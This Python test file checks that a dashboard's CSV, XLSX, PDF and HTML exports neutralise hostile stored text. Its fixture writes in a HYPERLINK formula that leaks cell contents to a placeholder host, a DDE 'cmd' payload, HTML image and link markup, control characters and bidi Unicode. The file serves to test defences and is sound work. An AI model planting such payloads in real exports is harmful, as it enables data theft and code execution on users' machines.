"""Stored text in every export: no formula, no reportlab markup, no control character.

The facts and gaps here are written straight into the tables, as a database from before the
arrival checks (or any other writer) may hold them; the exports must be safe whatever they
contain."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from sync_server.reports.perturbation import MAX_DEVIATION
from tests.sync_server.reports.reports_helpers import case_fact, gap_row, login, month_fact

PERIOD = "von=2026-01&bis=2026-12"
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Details")'
IMAGE = Path(__file__).resolve().parents[3] / "docs" / "dashboard-login.png"
LINK = '<a href="//example.invalid/x">Details</a>'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(add: Any, office_id: str) -> None:
    rows = [case_fact(office_id, f"minden-{n:02d}-pseudonym") for n in range(8)]
    rows += [case_fact(office_id, f"formula-{n:02d}-pseudonym", municipality=FORMULA[:64])
             for n in range(6)]
    rows += [case_fact(office_id, f"bell-{n:02d}-pseudonym", municipality="petershagen\x07\x1b")
             for n in range(6)]
    rows += [month_fact(office_id, f"minden-{n:02d}-pseudonym", "2026-03", consultations=2,
                        minutes=60, referrals={f"<img src='{IMAGE}'/>:sent": 1,
                                               f"{LINK}:accepted": 1, "@SUM(1+1):sent": 1})
             for n in range(8)]
    rows += [
        gap_row(office_id, "gap-formula-pseudonym", description="=cmd|' /C calc'!A0"),
        gap_row(office_id, "gap-markup-pseudonym", description=f"Bild <img src='{IMAGE}'/> {LINK}"),
        gap_row(office_id, "gap-control-pseudonym", description="Klingel\x07 und\x0b Escape\x1b"),
        # On main the XLSX could not be read: U+FFFE is no character XML may hold.
        gap_row(office_id, "gap-invisible-pseudonym",
                description="Umzug\ufffe nach\u202e Minden\u200b\ufeff ohne\u2066 Hilfe\uffff"),
        gap_row(office_id, "gap-plain-pseudonym",
                description="Sprachkurse mit Kinderbetreuung fehlen im Norden des Kreises."),
    ]
    add(*rows)


@pytest.fixture
def coordinator(client: TestClient, make_user: Any) -> TestClient:
    make_user("koordination")
    login(client, "koordination")
    return client


def _export(client: TestClient, format: str) -> bytes:
    answer = client.get(f"/dashboard/export?format={format}&{PERIOD}")
    assert answer.status_code == 200, answer.text[:500]
    return answer.content


@pytest.mark.usefixtures("poisoned")
def test_csv_cells_never_start_a_formula_and_carry_the_released_gaps(
    coordinator: TestClient,
) -> None:
    text = _export(coordinator, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert [c for c in cells if c.startswith(DANGEROUS_STARTS)] == []
    assert "'=cmd|' /C calc'!A0" in cells
    assert "Sprachkurse mit Kinderbetreuung fehlen im Norden des Kreises." in cells
    assert not any("\x07" in c or "\x1b" in c for c in cells)
    assert "Umzug nach Minden ohne Hilfe" in cells


@pytest.mark.usefixtures("poisoned")
def test_xlsx_has_no_formula_and_no_control_character(coordinator: TestClient) -> None:
    workbook = load_workbook(io.BytesIO(_export(coordinator, "xlsx")))
    values = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert [v for v in values if v.startswith(DANGEROUS_STARTS)] == []
    assert not any(ch in v for v in values for ch in "\x07\x0b\x1b")
    assert "'=cmd|' /C calc'!A0" in values
    assert "Klingel und Escape" in values
    assert "Umzug nach Minden ohne Hilfe" in values
    assert "Strukturelle Fehlstellen" in workbook.sheetnames


@pytest.mark.usefixtures("poisoned")
def test_pdf_shows_markup_as_text_and_embeds_nothing(coordinator: TestClient) -> None:
    pdf = _export(coordinator, "pdf")
    assert b"/Subtype /Image" not in pdf and b"/URI" not in pdf
    text = " ".join(subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True,
                                   check=True).stdout.decode().split())
    assert "<img src=" in text and 'href="//example.invalid/x">Details</a>' in text
    assert "Sprachkurse mit Kinderbetreuung fehlen" in text


@pytest.mark.usefixtures("poisoned")
def test_pages_still_answer_and_escape(coordinator: TestClient) -> None:
    for slug in ("kommunen", "vermittlungen"):
        page = coordinator.get(f"/dashboard/bericht/{slug}?{PERIOD}")
        assert page.status_code == 200
        assert "<img src=" not in page.text and "<a href=\"//example" not in page.text
    board = coordinator.get("/dashboard/fehlstellen")
    assert board.status_code == 200 and "&lt;img src=" in board.text


@pytest.mark.usefixtures("poisoned")
def test_the_legend_says_the_noise_and_what_a_hidden_figure_may_be(
    coordinator: TestClient,
) -> None:
    """Reproduced on main: the legend said counts move by at most ±2 and "<5" means fewer
    than five, while the p-table moves them by up to 3, so "<5" may stand for up to 7."""
    workbook = load_workbook(io.BytesIO(_export(coordinator, "xlsx")))
    texts = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert MAX_DEVIATION == 3
    assert any("±3" in text and "1 bis 7 Personen" in text for text in texts)
    assert any("bis zu 3 vom wahren Wert" in text for text in texts)
